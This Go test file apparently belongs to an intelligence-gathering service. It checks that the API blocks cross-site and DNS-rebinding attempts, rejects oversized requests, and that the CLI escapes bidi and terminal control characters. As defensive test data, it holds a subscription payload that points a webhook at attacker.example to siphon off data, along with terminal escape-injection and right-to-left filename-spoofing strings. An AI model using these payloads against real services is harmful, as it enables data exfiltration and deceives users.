package main

import (
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/techintel/techintel/index"
)

const redTeamConfig = `
[[watch]]
name = "Nokia"
role = "own"
`

// TestCrossSiteCannotPlantASubscription: the red-team's attack on a
// token-less serve. A page on another origin posts text/plain JSON that
// plants a subscription with the attacker's webhook; a DNS name rebound
// to 127.0.0.1 reads the index. Neither reaches the store.
func TestCrossSiteCannotPlantASubscription(t *testing.T) {
	g := newTestGatherer(t, redTeamConfig)
	srv := httptest.NewServer(apiHandlerFor(g, DefaultConfig().API, nil))
	defer srv.Close()
	plant := `{"name": "exfil", "query": "*", "webhook_url": "https://attacker.example/hook"}`
	for _, tt := range []struct {
		name   string
		header map[string]string
		status int
	}{
		{"text/plain from a foreign page", map[string]string{"Content-Type": "text/plain;charset=UTF-8", "Origin": "https://attacker.example", "Sec-Fetch-Site": "cross-site"}, 403},
		{"text/plain, no-cors, no Origin", map[string]string{"Content-Type": "text/plain"}, 415},
		{"a form", map[string]string{"Content-Type": "application/x-www-form-urlencoded"}, 415},
		{"rebound name", map[string]string{"Content-Type": "application/json", "Host": "attacker.example:7777"}, 421},
	} {
		t.Run(tt.name, func(t *testing.T) {
			req, _ := http.NewRequest("POST", srv.URL+"/api/v1/subscriptions", strings.NewReader(plant))
			for k, v := range tt.header {
				req.Header.Set(k, v)
			}
			req.Host = cmpOr(tt.header["Host"], req.Host)
			resp, err := http.DefaultClient.Do(req)
			if err != nil {
				t.Fatal(err)
			}
			resp.Body.Close()
			if resp.StatusCode != tt.status {
				t.Errorf("%d, want %d", resp.StatusCode, tt.status)
			}
		})
	}
	// Reading through a rebound name fails too.
	req, _ := http.NewRequest("GET", srv.URL+"/api/v1/search?q=nokia", nil)
	req.Host = "attacker.example"
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusMisdirectedRequest {
		t.Errorf("search through a rebound name: %d", resp.StatusCode)
	}
	if subs, err := g.Alerter().ListSubscriptions(t.Context()); err != nil || len(subs) != 0 {
		t.Errorf("subscriptions planted: %v %v", subs, err)
	}
	// The API's own clients still work.
	if status, body := doJSON(t, "POST", srv.URL+"/api/v1/subscriptions", `{"name": "mine", "query": "nokia"}`); status != 201 {
		t.Errorf("a JSON client: %d %v", status, body)
	}
}

func cmpOr(a, b string) string {
	if a != "" {
		return a
	}
	return b
}

// TestBadRequestsAnswer400: what answered 500 (weeks the index cannot
// represent, 100,000 entities in a preview) or was stored whole (a 900 KB
// subscription name) is refused as the client's mistake.
func TestBadRequestsAnswer400(t *testing.T) {
	g := newTestGatherer(t, redTeamConfig)
	srv := httptest.NewServer(apiHandlerFor(g, DefaultConfig().API, nil))
	defer srv.Close()
	for _, path := range []string{"/api/v1/digest?week=9999-W52", "/api/v1/digest?week=0000-W01", "/digest?week=9999-W52", "/digest?week=0000-W01"} {
		resp, err := http.Get(srv.URL + path)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != http.StatusBadRequest {
			t.Errorf("GET %s: %d, want 400", path, resp.StatusCode)
		}
	}
	ents, _ := json.Marshal(strings.Fields(strings.Repeat("Nokia ", 100_000)))
	bigName := strings.Repeat("n", 900_000)
	for _, tt := range []struct{ path, body, want string }{
		{"/api/v1/subscriptions/preview", `{"query": "radio", "entities": ` + string(ents) + `}`, "too many"},
		{"/api/v1/subscriptions", `{"name": "` + bigName + `", "query": "radio"}`, "name: 900000 characters is too long"},
		{"/api/v1/subscriptions", `{"name": "x", "query": "` + strings.Repeat("radio~2 ", 20_000) + `"}`, "query:"},
	} {
		status, body := doJSON(t, "POST", srv.URL+tt.path, tt.body)
		if msg, _ := body["error"].(string); status != 400 || !strings.Contains(msg, tt.want) {
			t.Errorf("POST %s (%d bytes): %d %.200v, want 400 with %q", tt.path, len(tt.body), status, body, tt.want)
		}
	}
	if subs, _ := g.Alerter().ListSubscriptions(t.Context()); len(subs) != 0 {
		t.Errorf("stored: %d subscriptions", len(subs))
	}
}

// TestCLIEscapesBidiAndControls: crawled titles with U+202E or an
// escape sequence reached the terminal as they were.
func TestCLIEscapesBidiAndControls(t *testing.T) {
	for _, tt := range []struct{ in, want string }{
		{"plain Nokia – ümlaut 日本", "plain Nokia – ümlaut 日本"},
		{"Nokia \u202egpj.exe", `Nokia \u202egpj.exe`},
		{"\x1b]0;owned\x07title", `\x1b]0;owned\x07title`},
		{"tab\there\nnewline", `tab\x09here\x0anewline`},
		{"isolate \u2066x\u2069 mark \u200f c1 \u009b", `isolate \u2066x\u2069 mark \u200f c1 \x9b`},
	} {
		if got := termSafe(tt.in); got != tt.want {
			t.Errorf("termSafe(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
	var b strings.Builder
	printHits(&b, &index.Result{Total: 1, Hits: []index.Hit{{
		ID: "x", Title: "Nokia \u202egpj.exe \x1b[2J", Source: "wire\u202e", URL: "https://e.example/\u202e",
		Snippet: "body \u202e text", Published: time.Date(2026, 11, 2, 0, 0, 0, 0, time.UTC),
	}}}, 0, false, false)
	if strings.ContainsAny(b.String(), "\u202e\x1b") {
		t.Errorf("printed raw controls: %q", b.String())
	}
	if !strings.Contains(b.String(), `Nokia \u202egpj.exe \x1b[2J`) {
		t.Errorf("the title is not shown escaped: %q", b.String())
	}
}
